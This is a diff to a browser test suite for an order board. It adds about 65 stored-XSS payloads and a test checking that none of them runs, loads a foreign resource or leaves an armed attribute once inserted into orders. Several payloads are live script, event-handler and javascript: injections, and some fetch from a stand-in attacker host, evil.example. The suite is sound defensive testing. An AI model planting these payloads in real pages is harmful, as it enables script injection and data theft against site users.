@@ -22,6 +22,77 @@ const PAYLOADS = [
   '\u202Egnp.exe',
 ];
 
+// Each would set window.__xss, open a dialog or ask another host, if anything of it were run.
+const RUN = 'window.__xss=1';
+const SCRIPTS = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt>${RUN}</sCrIpT>`,
+  `<script/x>${RUN}</script/x>`,
+  `<script\n>${RUN}</script\n>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<script src="data:text/javascript,${RUN}"></script>`,
+  `</script><script>${RUN}</script>`,
+  `--><script>${RUN}</script>`,
+  `]]><script>${RUN}</script>`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</style><script>${RUN}</script>`,
+  `</template><script>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<<script>${RUN}//<</script>`,
+  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src=x onerror="${RUN}"`,
+  `<img src="x" onerror='${RUN}'/>`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src=1 href=1 onerror="${RUN}"></img>`,
+  `<image src=x onerror=${RUN}>`,
+  `<img src=//evil.example/pixel.gif>`,
+  `<img srcset="//evil.example/pixel.gif 1x">`,
+  `<svg onload=${RUN}>`,
+  `<svg/onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+  `<iframe src="javascript:parent.__xss=1"></iframe>`,
+  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
+  `<iframe onload=${RUN}></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<body onload=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<select autofocus onfocus=${RUN}>`,
+  `<details open ontoggle=${RUN}>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<audio src onerror=${RUN}>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<div style="animation-name:flash" onanimationstart=${RUN}>x</div>`,
+  `<style>@import "//evil.example/x.css"; * {animation: x 1s}</style>`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
+  `<a href="javascript:${RUN}" autofocus>x</a>`,
+  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
+  `"onmouseover="${RUN}" x="`,
+  `' autofocus onfocus='${RUN}`,
+  `" autofocus onfocus="${RUN}" tabindex="1`,
+  `javascript:${RUN}`,
+  `\`\${${RUN}}`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `');${RUN};//`,
+  `\u2028${RUN}\u2029`,
+  `__proto__`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<!--<img src="--><img src=x onerror=${RUN}//">`,
+  `<x contenteditable onblur=${RUN}>lose focus</x>`,
+];
+
 let browser;
 let ordercast;
 let board;
@@ -42,6 +113,17 @@ after(async () => {
 beforeEach(async () => board = await BoardPage.open(browser, ordercast.url));
 
 afterEach(() => board.close());
+
+// An order of each text, all in one transaction, and the last one under the name `marker`.
+function insertHostile(texts, marker) {
+  const order = (text) => [text, text, text, text,
+                           JSON.stringify([{sku: text, name: text, qty: text, [text]: text}])];
+  const rows = [...texts.map(order), [marker, marker, 'paid', 'EUR', '[]']];
+  const literal = (text) => `'${text.replaceAll('\'', '\'\'')}'`;
+  return ordercast.sql(`INSERT INTO orders
+      (merchant_id, total, customer_name, note, status, currency, items)
+      VALUES ${rows.map((row) => `(1, 10, ${row.map(literal).join(', ')})`).join(', ')}`);
+}
 
 test('markup in any field of an order stays text, live and in the snapshot', async () => {
   const ids = [];
@@ -77,6 +159,48 @@ test('markup in any field of an order stays text, live and in the snapshot', asy
   await inert();
   await board.page.reload();
   await board.phase('live');
+  await inert();
+});
+
+// Knows nothing of how the board is built, and so holds for any.
+test('of all that attackers store in an order nothing is run or loaded', async () => {
+  assert.ok(SCRIPTS.length >= 50);
+  const foreign = [];
+  board.page.on('request', (request) => {
+    if (new URL(request.url()).origin !== new URL(ordercast.url).origin) foreign.push(request.url());
+  });
+  await board.page.evaluate(() => {
+    window.violations = [];
+    document.addEventListener(
+        'securitypolicyviolation', (event) => window.violations.push(event.blockedURI));
+  });
+  const shown = (marker) => board.page.waitForFunction(
+      (text) => document.documentElement.textContent.includes(text), marker);
+  const inert = async () => {
+    const found = await board.page.evaluate(() => ({
+      ran: window.__xss,
+      violations: window.violations ?? [],
+      // Nothing that a payload asks for is an element or an attribute.
+      armed: [...document.querySelectorAll('*')]
+                 .filter((element) => [...element.attributes].some(
+                             ({name, value}) => /^on|^srcdoc$/i.test(name) ||
+                                 (/href|src|action|^data$/i.test(name) && /^\s*javascript:/i.test(value))))
+                 .map((element) => element.outerHTML.slice(0, 200)),
+      frames: window.length,
+    }));
+    assert.deepEqual(found, {ran: undefined, violations: [], armed: [], frames: 0});
+    assert.deepEqual(foreign, []);
+  };
+  // A few at a time: a board may show no more than fit into the window.
+  const AT_ONCE = 10;
+  for (let begin = 0; begin < SCRIPTS.length; begin += AT_ONCE) {
+    const marker = `behind-${begin}`;
+    await insertHostile(SCRIPTS.slice(begin, begin + AT_ONCE), marker);
+    await shown(marker);
+    await inert();
+  }
+  await board.page.reload();
+  await shown(`behind-${Math.floor((SCRIPTS.length - 1) / AT_ONCE) * AT_ONCE}`);
   await inert();
 });
 
